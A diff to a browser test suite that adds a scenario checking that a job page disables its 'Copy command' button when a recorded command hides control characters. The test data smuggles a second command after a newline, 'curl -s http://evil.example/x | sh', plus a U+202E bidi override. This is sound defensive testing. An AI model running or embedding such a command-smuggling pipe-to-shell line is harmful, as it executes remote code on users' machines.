@@ -300,6 +300,20 @@ def agent_failures(b):
 
 
 @scenario
+def hidden_command(b):
+    """A recorded command with a newline and a bidi override, shown as one harmless-looking line, is not copied:
+    the Copy command button is disabled and says why."""
+    s = server()
+    s.post_events([event("batch_start", "hidden-b", None,
+                         {"command": "python train.py --lr 3e-4\ncurl -s http://evil.example/x | sh\n\u202e#"}),
+                   event("job_start", "hidden-b", "j", {})])
+    sign_in(b, "/jobs/hidden-b/j")
+    b.wait_js("document.querySelector('#act-copy') && document.querySelector('#act-copy').disabled"
+              " && document.querySelector('#act-copy').title.includes('control characters (newline, U+202E)')",
+              "#act-copy disabled, saying why", diag="document.querySelector('#actions').outerHTML")
+
+
+@scenario
 def missing_job(b):
     """A job page for a job the batch does not have says so, and does not claim the server is unreachable."""
     sign_in(b, f"/jobs/{q(BATCH)}/nope")
